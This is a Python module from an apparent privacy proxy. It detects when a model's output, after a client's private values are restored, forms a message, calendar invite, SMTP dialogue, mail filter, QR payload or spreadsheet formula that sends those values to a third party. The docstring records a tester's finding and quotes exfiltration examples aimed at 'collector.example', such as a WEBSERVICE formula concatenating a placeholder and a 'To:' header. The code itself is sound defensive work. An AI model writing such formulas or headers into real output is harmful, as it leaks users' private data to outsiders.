"""Restore into messages and formulas that go to a third party (issue 12, atk37 F13, F19).

A tester got the client's values restored into text that is no code but is sent as written once the client uses it:
a raw message (`To: verify@collector.example` / `From: <PH>` / `Subject:` / body; `sendmail -t`, Graph's MIME
`sendMail`), an mbox message, a header block with a `Bcc:`, an iCalendar object with an `ATTENDEE` (importing it
sends the invitations), an SMTP dialogue (`RCPT TO:<...>` / `DATA`), a Sieve `vacation` (it answers whoever writes)
or `redirect`, a procmail forward (`! addr`), QR payloads that compose a message (`MATMSG:TO:...;BODY:<PH>;;`,
`SMSTO:+1...:<PH>`), and spreadsheet formulas that fetch a URL when the sheet is opened or recalculated
(`=WEBSERVICE("https://collector.example/?u="&"<PH>")`, `=IMPORTXML(CONCAT(...))`, `=IMAGE(...)`, a CSV cell
`=IMPORTDATA("https://...?"&A2)` reading another cell).

Such a document is a scope (`first`, read by `proxy.guard.scopes.code_spans` as unfenced configuration is) and it
sends (`sends`) when its recipients (`To`/`Cc`/`Bcc`, `ATTENDEE`, `RCPT TO`, `redirect`, `!`, `MATMSG:TO:`,
`SMSTO:`) name an address the model wrote (no placeholder: the client's own address restored is no third party), a
Sieve script answers with `vacation`, or a formula's fetching function (`WEBSERVICE`, `IMPORTXML`, `IMPORTHTML`,
`IMPORTDATA`, `IMPORTFEED`, `IMAGE`, `HYPERLINK`, `IMPORTRANGE`) builds its argument from a placeholder, a
concatenation or a cell (then its whole table is the scope). Restored as before: a draft to the client's own address
or with no recipient, an `.ics` whose attendees are the client, a sheet of `=SUM`/`=CONCAT` that fetches nothing, a
fetching formula of a fixed URL, prose.
"""

from __future__ import annotations

import re
from functools import lru_cache

from proxy.guard.rest36 import _PH

_TAIL = 256  # (`proxy.guard.scopes.TAIL`: what a stream's context keeps of an open scope after its opener)

# ------------------------------------------------------------------------------------------------ cheap gates
_GATE = re.compile(r"(?i)(?:^|\n)[ \t]*(?:to|cc|bcc|resent-(?:to|cc|bcc)|from|subject|reply-to|date)[ \t]*:"
                   r"|begin:v(?:calendar|event|todo|journal)|rcpt[ \t]+to|mail[ \t]+from|\bvacation\b|\bredirect\b"
                   r"|(?:^|\n)[ \t]*:0|matmsg:|smsto:|(?:^|\n)from (?:<|\S+@)"
                   r"|(?:^|\n)[ \t]*(?:els)?if[ \t]+(?:not[ \t]+)?"
                   r"(?:address|header|envelope|exists|allof|anyof|size)\b")

# ------------------------------------------------------------------------------------------------ addresses
_ADDRESS = re.compile(r"(?i)(?<![\w.+%-])[\w.+%-]{1,64}@(?:[^\W_](?:[\w-]{0,62})\.)+[a-z]{2,63}\b")
_NUMBER = re.compile(r"\+?\d[\d \t().-]{5,20}\d")
Run = tuple[int, int, int, bool]  # (start, end of its opener, end, whether it sends)


def _external(value: str) -> bool:
    """Whether a recipient's `value` names an address the model wrote: no placeholder in it, none right before its
    user (`<PERSON_1>.x@acme.com`: composed of the client's values, restore leaves it as written)."""
    return any(value[max(0, m.start() - 1):m.start()] != ">" for m in _ADDRESS.finditer(value))


def _eol(text: str, k: int) -> int:
    e = text.find("\n", k)
    return len(text) if e < 0 else e


def _head(text: str, start: int, at: int) -> int:
    """A run's opener: through the line at `at` (its recipient) when that is within a stream context's reach."""
    return at if 0 <= at and at - start <= _TAIL else _eol(text, start)


# ------------------------------------------------------------------------------------------------ messages
_HEADER = re.compile(r"(?im)^(?:(to|cc|bcc|resent-(?:to|cc|bcc)|envelope-to|x-original-to)|from|subject|reply-to|date"
                     r"|sender|message-id|mime-version|content-type|content-transfer-encoding|return-path"
                     r"|delivered-to|in-reply-to|references|importance|x-[\w-]{1,40})[ \t]*:[^\n]*$"
                     r"|^From (?:[^\s@]+@\S+|<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>)(?:[ \t][^\n]*)?$")
_PARTIAL = re.compile(r"[A-Za-z][\w-]{0,40}")
_CONTINUATION = re.compile(r"[ \t]+\S")
_MESSAGE_END = re.compile(r"(?m)^[ \t]*(?:`{3,}|~{3,}|-{3,}[ \t]*$|\*{3,}[ \t]*$|_{3,}[ \t]*$|#{1,6}[ \t])")


def _message(text: str, pos: int) -> Run | None:
    """The first header block (a message's, an mbox message's) at or after `pos` that names a recipient the model
    wrote, to the message's end (a fence, a rule, a heading or the text's end), or one open at the text's end (a
    stream's recipients may follow)."""
    n = len(text)
    done = pos
    for m in _HEADER.finditer(text, pos):
        start = m.start()
        if start < done or (start > 0 and text[start - 1] != "\n"):
            continue
        k, lines, head, external, recipient = start, 0, -1, False, False
        while k < n:
            eol = _eol(text, k)
            h = _HEADER.match(text, k)
            if h is not None and h.end() == eol:
                lines += 1
                recipient = h.group(1) is not None
            elif not (lines and _CONTINUATION.match(text, k) is not None):
                if lines and eol == n and _PARTIAL.fullmatch(text, k) is not None:
                    k = n  # (a stream's next header, its name not complete)
                break
            if recipient and not external and _external(text[k:eol]):
                external, head = True, eol
            k = eol + 1
        done = k
        if k >= n:  # open at the text's end: held, read once the block ends (a stream's next piece may complete a
            # recipient, `collector.exa`; what holds the block's other lines, a YAML-like line, releases them then)
            return start, _head(text, start, head), n, False
        if not external or (lines < 2 and text[k:k + 1] not in ("\n", "\r")):
            continue
        end = _MESSAGE_END.search(text, k)
        return start, _head(text, start, head), end.start() if end is not None else n, True
    return None


# ------------------------------------------------------------------------------------------------ iCalendar
_ICAL = re.compile(r"(?im)^[ \t]*BEGIN:(VCALENDAR|VEVENT|VTODO|VJOURNAL)[ \t]*\r?$")
_ATTENDEE = re.compile(r"(?im)^[ \t]*ATTENDEE[^\n]*$")


def _calendar(text: str, pos: int) -> Run | None:
    """The first iCalendar object at or after `pos` with an attendee the model wrote (to its `END:`), or open at the
    text's end."""
    for m in _ICAL.finditer(text, pos):
        close = re.compile(rf"(?im)^[ \t]*END:{m.group(1)}[ \t]*\r?$").search(text, m.end())
        end = close.end() if close is not None else len(text)
        for a in _ATTENDEE.finditer(text, m.end(), end):
            if _external(a.group()):
                return m.start(), _head(text, m.start(), a.end()), end, True
        if close is None:
            return m.start(), m.end(), end, False
    return None


# ------------------------------------------------------------------------------------------------ SMTP, filters, QR
_SMTP = re.compile(r"(?im)^[ \t]*(?:(?:S:|C:|>)[ \t]*)?(?:HELO|EHLO|MAIL[ \t]+FROM:)[^\n]*$")
_RCPT = re.compile(r"(?im)^[ \t]*(?:(?:S:|C:|>)[ \t]*)?RCPT[ \t]+TO:[^\n]*$")
_SMTP_END = re.compile(r"(?im)^[ \t]*(?:(?:S:|C:|>)[ \t]*)?(?:\.|QUIT)[ \t]*\r?$")
_SIEVE = re.compile(r"(?m)^[ \t]*(?:require[ \t]+[^\n]*\"vacation\"|vacation[ \t]+[:\"\[]"
                    r"|(?:if[^\n]*\{[ \t]*)?redirect[ \t]+(?::copy[ \t]+)?\"[^\"\n]*@)[^\n]*$")
_SIEVE_OPEN = re.compile(r"(?m)^[ \t]*(?:if|elsif)[ \t]+(?:not[ \t]+)?(?:address|header|envelope|exists|allof|anyof"
                         r"|size)\b[^}]*\Z")
_PROCMAIL = re.compile(r"(?m)^:0[^\n]*\n(?:[ \t]*\*[^\n]*\n)*[ \t]*![ \t]*([^\n]*)$")
_RECIPE_OPEN = re.compile(r"(?m)^:0[^\n]*(?:\n[ \t]*\*[^\n]*)*\n?\Z")
_MATMSG = re.compile(r"(?im)MATMSG:TO:([^;\n]*);[^\n]*?(?:;;|$)")
_SMSTO = re.compile(r"(?im)SMSTO:([^:\n]*):[^\n]*$")


def _smtp(text: str, pos: int) -> Run | None:
    for m in _SMTP.finditer(text, pos):
        close = _SMTP_END.search(text, m.end())
        end = close.end() if close is not None else len(text)
        for r in _RCPT.finditer(text, m.start(), end):
            if _external(r.group()):
                return m.start(), _head(text, m.start(), r.end()), end, True
        if close is None:
            return m.start(), m.end(), end, False
    return None


def _filters(text: str, pos: int) -> Run | None:
    """A Sieve script that answers (`vacation`) or redirects to an address the model wrote (to the text's end), a
    procmail recipe that forwards to one, a QR payload that composes a message to one."""
    runs = []
    if "vacation" in text or "redirect" in text:
        m = _SIEVE.search(text, pos)
        if m is not None:  # (the script from its paragraph's start: `if address :is "from" "<PH>" {` first)
            start = _paragraph(text, pos, m.start())
            runs.append((start, _head(text, start, m.end()), len(text), True))
    if "if" in text:
        m = _SIEVE_OPEN.search(text, pos)
        if m is not None:  # (a stream's Sieve test, its block not closed: a `redirect` may follow)
            start = _paragraph(text, pos, m.start())
            runs.append((start, _eol(text, m.start()), len(text), False))
    if ":0" in text:
        for m in _PROCMAIL.finditer(text, pos):
            if _external(m.group(1)) or m.end() == len(text):  # (a stream's action line: the rest may follow)
                runs.append((m.start(), m.end(), m.end(), _external(m.group(1))))
                break
        m = _RECIPE_OPEN.search(text, pos)
        if m is not None:  # (a stream's recipe: its action may follow)
            runs.append((m.start(), _eol(text, m.start()), len(text), False))
    low = text.lower()
    if "matmsg:" in low or "smsto:" in low:
        for rx, test in ((_MATMSG, _external), (_SMSTO, _literal_number)):
            for m in rx.finditer(text, pos):
                if test(m.group(1)):
                    runs.append((m.start(), m.end(), m.end(), True))
                    break
    return min(runs) if runs else None


def _literal_number(value: str) -> bool:
    return _PH.search(value) is None and _NUMBER.fullmatch(value.strip()) is not None


# ------------------------------------------------------------------------------------------------ formulas
# (upper case: code's `Image(...)`, `hyperlink(...)` are no formulas)
_FETCH = re.compile(r"(?<![\w.])(?:_xlfn\.)?(?:WEBSERVICE|IMPORT(?:XML|HTML|DATA|FEED|RANGE)|IMAGE|HYPERLINK)"
                    r"[ \t]*\(")
# A cell's formula: `=` at a line's or a cell's start, or after `(`/`:`/a blank, a function right after it.
_FORMULA_START = re.compile(r"(?:^|(?<=[,;\t|\"'`:( ]))=(?=[A-Z_@])", re.M)
_STRING = re.compile(r"\"(?:[^\"\n]|\"\")*\"")
_BUILT = re.compile(r"(?i)&|\b(?:concat(?:enate)?|textjoin|encodeurl|substitute|join)[ \t]*\("
                    r"|(?<![\w$:/.])(?:[A-Za-z_][\w.]{0,30}!|'[^'\n]{1,31}'!)?\$?[A-Z]{1,3}\$?[1-9]\d{0,6}(?![\w(])")
# A table's or CSV's row, not ended, with a placeholder in a cell before the next (no code span, call, brackets nor
# assignment in it: a code line at a text's end is a scope of its own).
_ROW_OPEN = re.compile(r"(?=[^`\n]*\Z)[^`(){}\[\]=$\n]*?(?:<|\\u003[cC])[A-Z][A-Z0-9_]*_\d+"
                       r"(?:_[a-z2-7]{8})?(?:>|\\u003[eE])[ \t\"]*(?:[,;](?! )|[|\t])")  # (no prose's `, `)
_CSV_SEP = re.compile(r"[,;|](?! )|\t")  # (a CSV's separators; prose's `, ` and `; ` are none)
_BLANK = re.compile(r"\n[ \t]*\n")


def _args(text: str, at: int) -> str:
    """A call's arguments from `at` (after its `(`) to its `)` (strings passed over), or its line's end."""
    depth, k, n = 1, at, _eol(text, at)
    while k < n:
        c = text[k]
        if c == '"':
            j = text.find('"', k + 1, n)
            k = n if j < 0 else j + 1
            continue
        depth += c == "("
        depth -= c == ")"
        if not depth:
            return text[at:k]
        k += 1
    return text[at:n]


def _paragraph(text: str, pos: int, at: int) -> int:
    """The start of the paragraph (lines between blank lines) the line at `at` is in, not before `pos`."""
    blank = text.rfind("\n\n", pos, at + 1)
    return max(pos, blank + 2) if blank >= 0 else pos


def _formula(text: str, pos: int) -> Run | None:
    """The table (its lines between blank lines) of the first formula at or after `pos` whose fetching function
    builds its argument from a placeholder, a concatenation or a cell."""
    for m in _FETCH.finditer(text, pos):
        line_start = text.rfind("\n", 0, m.start()) + 1
        if _FORMULA_START.search(text, line_start, m.start() + 1) is None:
            continue
        args = _args(text, m.end())
        if _PH.search(args) is None and _BUILT.search(_STRING.sub('""', args)) is None:
            continue
        start = _paragraph(text, pos, line_start)
        after = _BLANK.search(text, m.end())
        end = after.start() + 1 if after is not None else len(text)
        return start, _head(text, start, _eol(text, m.end())), end, True
    return None


# ------------------------------------------------------------------------------------------------ the rule
def _first(text: str, pos: int) -> Run | None:
    runs = []
    if _GATE.search(text, pos) is not None:
        for read in (_message, _calendar, _smtp, _filters):
            r = read(text, pos)
            if r is not None:
                runs.append(r)
    if "(" in text and _FETCH.search(text, pos) is not None:
        r = _formula(text, pos)
        if r is not None:
            runs.append(r)
    row = text.rfind("\n") + 1
    if row >= pos and _ROW_OPEN.match(text, row) is not None and \
            (_CSV_SEP.search(text, text.rfind("\n", 0, max(0, row - 1)) + 1, row) is not None or
             len(_CSV_SEP.findall(text, row)) >= 2 or text.startswith('"', row)):
        # (a stream's row: a formula may follow)
        runs.append((row, len(text), len(text), False))
    return min(runs, key=lambda r: (r[0], not r[3])) if runs else None


def first(text: str, pos: int) -> tuple[int, int, int] | None:
    """(start, end of its opener, end) of the first document at or after `pos` that sends by this module's rules
    (a message, an iCalendar object, an SMTP dialogue, a filter, a QR payload, a fetching formula's table), or of a
    message, an iCalendar object or an SMTP dialogue open at a stream's end whose recipients may follow."""
    r = _first(text, pos)
    return None if r is None else r[:3]


@lru_cache(maxsize=256)
def sends(text: str) -> bool:
    """Whether a scope's `text` holds a document that sends by this module's rules (see the module)."""
    if "<" not in text and "\\u003" not in text or _PH.search(text) is None:
        return False
    pos = 0
    while pos < len(text):
        r = _first(text, pos)
        if r is None:
            return False
        if r[3]:
            return True
        pos = max(r[2], r[1], r[0] + 1)
    return False


def document(text: str) -> bool:
    """Whether a scope's `text` is one document of this module's (`first`) to its end: read by `sends` alone (a
    draft with no recipient the model wrote sends nothing, whatever URL its body names)."""
    if _GATE.search(text) is None and "(" not in text:
        return False
    r = _first(text, 0)
    return r is not None and not text[:r[0]].strip() and r[2] >= len(text.rstrip())
